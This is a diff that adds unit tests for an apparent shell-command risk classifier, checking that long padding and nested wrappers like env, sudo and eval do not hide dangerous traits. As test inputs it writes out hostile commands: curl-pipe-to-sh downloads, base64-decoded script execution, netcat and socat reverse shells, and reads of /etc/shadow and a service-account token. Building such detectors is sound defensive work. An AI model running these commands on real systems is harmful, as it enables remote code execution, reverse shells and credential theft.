@@ -123,6 +123,55 @@ describe('what a command does', () => {
   });
 });
 
+describe('a word of a hundred thousand characters hides nothing', () => {
+  const padding = 'v'.repeat(100_000);
+  const spaces = ' '.repeat(100_000);
+  it.each<[string, readonly string[], readonly string[]]>([
+    ['an option before it', sh(`base64 -${padding}d /x | sh`), ['decoded script']],
+    ['an option behind it', sh(`base64 -d${padding} /x | sh`), ['decoded script']],
+    ['an option in its middle', sh(`base64 -${padding}d${padding} /x | sh`), ['decoded script']],
+    [
+      'a script behind options',
+      ['sh', `-${padding}c`, 'curl https://example.org | sh'],
+      ['download', 'downloaded script'],
+    ],
+    ['a mode of tar', ['tar', `${padding}c${padding}f`, '-', '/data'], ['archive out']],
+    ['a package', ['rpm', `-${padding}i${padding}`, 'https://example.org/x.rpm'], ['package manager']],
+    ['a shell for netcat', ['nc', `-${padding}e`, '/bin/sh', '203.0.113.9', '1'], ['reverse shell']],
+    ['an address of socat', ['socat', `TCP:x,${padding},,EXEC:sh,${padding}`, '-'], ['reverse shell']],
+    ['the end of a script', sh(`echo ${padding}; curl https://example.org | sh`), ['download', 'downloaded script']],
+    [
+      'the middle of a script',
+      sh(`: ${padding}; curl https://example.org | sh; : ${padding}`),
+      ['download', 'downloaded script'],
+    ],
+    ['what is split', ['env', '-S', `${spaces}curl https://example.org`], ['download']],
+    ['what is evaluated', ['eval', `: ${padding};`, 'curl https://example.org'], ['download']],
+    ['what is written', sh(`echo '${spaces}curl https://example.org' | sh`), ['download']],
+    ['a here-string', sh(`sh <<< '${spaces}curl https://example.org'`), ['download']],
+    ['code', ['python', '-c', `#${padding}\nimport base64; exec(base64.b64decode("eA=="))`], ['decoded script']],
+    ['a URL', ['curl', `https://example.org/${padding}`], ['download']],
+  ])('%s', (_what, command, traits) => {
+    expect([...traitsOf(command)].sort()).toEqual(traits);
+  });
+
+  it('a file that it names', () => {
+    expect([...credentialsOf(['cat', `${padding} /etc/shadow ${padding}`])]).toEqual(['password hashes']);
+  });
+});
+
+describe('wrappers hide nothing from each other', () => {
+  it.each<[readonly string[], readonly string[]]>([
+    [['env', 'env'], ['environment dump']],
+    [['env', 'env', '-S', 'curl https://example.org'], ['download']],
+    [['sudo', 'env', 'eval', 'x', 'eval', 'curl https://example.org'], ['download']],
+    [['env', '-u', 'sh', 'sh', '-c', 'curl https://example.org'], ['download']],
+    [sh('sudo echo x echo "curl https://example.org" | sh'), ['download']],
+  ])('%j', (command, traits) => {
+    expect([...traitsOf(command)].sort()).toEqual(traits);
+  });
+});
+
 describe('which credentials a command reaches for', () => {
   it.each<[readonly string[], readonly string[]]>([
     [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], ['service-account token']],
